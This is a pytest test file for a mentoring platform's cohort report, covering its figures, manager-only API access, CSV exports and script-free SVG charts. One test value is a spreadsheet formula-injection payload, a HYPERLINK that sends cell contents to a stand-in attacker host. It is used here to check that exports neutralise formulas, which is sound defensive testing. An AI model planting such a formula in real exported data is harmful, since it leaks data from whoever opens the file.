"""The cohort report: the same figures on the page, in the JSON API and in the CSV exports; SVG charts."""

from __future__ import annotations

import csv
import io
import re
from datetime import date, timedelta

import pytest

from marketplace.extensions import db
from marketplace.models import Tandem
from marketplace.services import exports
from marketplace.services.cohorts import reports
from tests.builders import make_goal, make_meeting, make_mentor, make_user
from tests.marketplace.test_cohorts import bearer, enrol, make_cohort

TODAY = date.today()


@pytest.fixture
def running(app):
    """Two published tandems (scores 0.6 and 0.8), one accepted mentee left unmatched, target 4 meetings."""
    cohort = make_cohort(state="running", target=4, starts_on=TODAY - timedelta(days=70),
                         ends_on=TODAY + timedelta(days=110))
    tandems = []
    for i, score in enumerate((0.6, 0.8)):
        mentor, goal = make_mentor(company=f"Young {i}"), make_goal(company=f"Old {i}")
        enrol(cohort, mentor.user, "mentor")
        enrol(cohort, goal.owner, "mentee", goal)
        tandem = Tandem(goal=goal, mentor=mentor, mentee_user_id=goal.owner_id, mentor_user_id=mentor.user_id,
                        cohort_id=cohort.id, status="active", score=score, starts_on=cohort.starts_on,
                        ends_on=cohort.ends_on)
        db.session.add(tandem)
        tandems.append(tandem)
    lonely = make_goal(company="Old 9")
    enrol(cohort, lonely.owner, "mentee", lonely)
    enrol(cohort, make_user(), "mentor", status="applied")
    db.session.commit()
    first, second = tandems
    make_meeting(first, TODAY - timedelta(days=50), author=first.mentee)
    make_meeting(first, TODAY - timedelta(days=50), author=first.mentor_user)  # same meeting, counted once
    make_meeting(first, TODAY - timedelta(days=5), author=first.mentee)
    make_meeting(first, TODAY - timedelta(days=4), status="missed", author=first.mentee)  # not counted as held
    db.session.commit()
    return cohort, tandems


def test_report_figures(running):
    cohort, _ = running
    data = reports.report(cohort)
    assert data["participants"] == {"people": 5, "mentors": 2, "mentees": 3, "applied": 1, "waitlisted": 0,
                                    "rejected": 0}
    matching = data["matching"]
    assert matching["tandems"] == 2 and matching["matched_mentees"] == 2
    assert matching["matched_share"] == pytest.approx(2 / 3, abs=1e-4)
    assert matching["average_score"] == pytest.approx(0.7) and matching["lowest_score"] == pytest.approx(0.6)
    assert [b["count"] for b in matching["score_distribution"]] == [0, 0, 0, 0, 0, 0, 1, 0, 1, 0]
    held = data["meetings"]
    assert (held["held"], held["target"], held["tandems_behind"]) == (2, 8, 1)
    assert held["share_of_target"] == pytest.approx(0.25)
    assert sum(month["count"] for month in held["by_month"]) == 2
    assert held["by_month"][0]["month"] == f"{cohort.starts_on:%Y-%m}"


def test_report_api_matches_and_is_for_managers(running, client):
    cohort, _ = running
    assert client.get(f"/api/v1/cohorts/{cohort.id}/report", headers=bearer(make_user())).status_code == 403
    response = client.get(f"/api/v1/cohorts/{cohort.id}/report", headers=bearer(make_user(is_manager=True)))
    assert response.status_code == 200
    body = response.get_json()
    assert body["matching"]["average_score"] == pytest.approx(0.7)
    assert body["meetings"]["held"] == 2 and body["survey"]["shown"] is False
    assert client.get("/api/v1/cohorts/999/report", headers=bearer(make_user(is_manager=True))).status_code == 404


def test_csv_exports(running, client, login_as):
    cohort, tandems = running
    login_as(make_user(is_manager=True))
    figures = client.get(f"/cohorts/{cohort.id}/report.csv")
    assert figures.mimetype == "text/csv" and "attachment" in figures.headers["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(figures.data.decode("utf-8-sig"))))
    assert rows[0] == ["section", "metric", "value"]
    values = {(section, metric): value for section, metric, value in rows[1:]}
    assert values[("matching", "average_score")] == "0.7"
    assert values[("matching", "lowest_score")] == "0.6"
    assert values[("meetings", "held")] == "2" and values[("meetings", "target")] == "8"
    assert values[("participants", "mentees")] == "3"

    per_tandem = list(csv.DictReader(io.StringIO(client.get(f"/cohorts/{cohort.id}/tandems.csv").data.decode(
        "utf-8-sig"))))
    assert [(r["tandem_id"], r["meetings_held"], r["behind"]) for r in per_tandem] == [
        (str(tandems[0].id), "2", "no"), (str(tandems[1].id), "0", "yes")]
    assert per_tandem[0]["score"] == "0.6000"


HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'


def test_csv_exports_are_text_for_spreadsheets_and_keep_umlauts(running, client, login_as):
    """A goal title that is a formula arrives as text (leading '), the file opens in Excel with umlauts."""
    cohort, tandems = running
    tandems[0].goal.title = HOSTILE_TITLE
    tandems[0].mentor_user.name = "Jörg Müßig"
    tandems[1].goal.title = "@SUM(1+1)"
    tandems[1].mentee.name = "-2+3"
    db.session.commit()
    login_as(make_user(is_manager=True))
    for path in (f"/cohorts/{cohort.id}/tandems.csv", f"/cohorts/{cohort.id}/report.csv"):
        assert client.get(path).data.startswith(b"\xef\xbb\xbf"), path
    per_tandem = list(csv.DictReader(io.StringIO(client.get(f"/cohorts/{cohort.id}/tandems.csv").data.decode(
        "utf-8-sig"))))
    assert [row["goal"] for row in per_tandem] == ["'" + HOSTILE_TITLE, "'@SUM(1+1)"]
    assert per_tandem[0]["mentor"] == "Jörg Müßig"
    assert per_tandem[1]["mentee"] == "'-2+3"
    assert per_tandem[0]["meetings_held"] == "2"  # numbers stay numbers


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("Grüße", "Grüße"), ("a=b", "a=b"), ("", ""), (None, ""), (-0.25, -0.25), (-3, -3), (True, "True"),
])
def test_safe_cell(value, cell):
    assert exports.safe_cell(value) == cell


def test_report_page_shows_charts_as_images_with_tables_and_no_script(running, client, login_as):
    cohort, _ = running
    login_as(make_user(is_manager=True))
    page = client.get(f"/cohorts/{cohort.id}/report")
    html = page.get_data(as_text=True)
    assert page.status_code == 200
    assert "<script" not in html
    assert f'src="/cohorts/{cohort.id}/charts/meetings.svg?lang=en"' in html
    assert f'src="/cohorts/{cohort.id}/charts/scores.svg?lang=en"' in html
    assert "<table" in html and "70–80%" in html and re.search(r"67\s?%", html)
    assert "script-src 'self'" in page.headers["Content-Security-Policy"]
    for name in ("meetings", "scores"):
        chart = client.get(f"/cohorts/{cohort.id}/charts/{name}.svg?lang=en")
        assert chart.status_code == 200 and chart.mimetype == "image/svg+xml" and b"<svg" in chart.data
        assert b"<script" not in chart.data and "default-src 'none'" in chart.headers["Content-Security-Policy"]
    assert client.get(f"/cohorts/{cohort.id}/charts/other.svg").status_code == 404
